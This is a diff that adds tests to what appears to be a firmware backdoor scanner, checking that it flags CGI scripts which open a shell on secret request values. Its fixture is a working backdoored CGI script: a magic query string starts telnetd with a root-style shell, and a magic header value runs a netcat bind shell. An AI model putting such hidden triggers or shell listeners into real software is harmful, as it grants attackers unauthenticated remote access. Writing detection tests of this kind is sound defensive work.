@@ -236,3 +236,45 @@ int on_packet(const char *buf) {
 """
     hits = [f for f in findings("src/pkt.c", "c", src) if f.rule == "source.magic-input-command"]
     assert hits and hits[0].evidence["trigger"] == "kv9!Wq"
+
+
+_SHELL_CGI = """#!/bin/sh
+echo "Content-Type: text/plain"
+echo
+case "$QUERY_STRING" in
+  *op=status*) cat /proc/uptime ;;
+  *op=jade-kite-316*) /usr/sbin/telnetd -l /bin/ash -p 7023 ;;
+  *) echo unknown ;;
+esac
+if [ "$HTTP_X_SERVICE_KEY" = plover-88 ]; then
+    nc -l -p 7124 -e /bin/sh &
+fi
+"""
+
+
+def test_shell_cgi_branches_on_request_data_that_serve_a_shell():
+    from nobackdoor.analyzers.source.code import SourceCodeAnalyzer
+    from nobackdoor.analyzers.base import ScanOptions
+
+    data = _SHELL_CGI.encode()
+    e = FileEntry("www/cgi-bin/svc.cgi", "www/cgi-bin/svc.cgi", "", Path("/nonexistent"), len(data), "",
+                  FileKind.SCRIPT, language="bash", content=data)
+    an = SourceCodeAnalyzer(ScanOptions(target_kind="firmware"))
+    assert an.wants(e)
+    hits = sorted((f.line, f.evidence["trigger"]) for f in an.analyze(e, data) if f.rule == "source.magic-input-command")
+    assert hits == [(6, "op=jade-kite-316"), (9, "plover-88")]
+
+
+def test_shell_cgi_without_shell_serving_branches_and_boot_scripts_are_quiet():
+    from nobackdoor.analyzers.source.code import SourceCodeAnalyzer
+    from nobackdoor.analyzers.base import ScanOptions
+
+    an = SourceCodeAnalyzer(ScanOptions(target_kind="firmware"))
+    clean = _SHELL_CGI.replace("/usr/sbin/telnetd -l /bin/ash -p 7023", "/usr/sbin/telnetd -p 7023") \
+        .replace("nc -l -p 7124 -e /bin/sh &", "logger -t svc restart")
+    boot = "#!/bin/sh\n[ \"$1\" = start ] && telnetd -l /bin/sh -p 23 &\n"  # no request data: not a CGI
+    for name, text_ in (("www/cgi-bin/svc.cgi", clean), ("etc/init.d/S50svc", boot)):
+        data = text_.encode()
+        e = FileEntry(name, name, "", Path("/nonexistent"), len(data), "", FileKind.SCRIPT, language="bash",
+                      content=data)
+        assert list(an.analyze(e, data)) == []
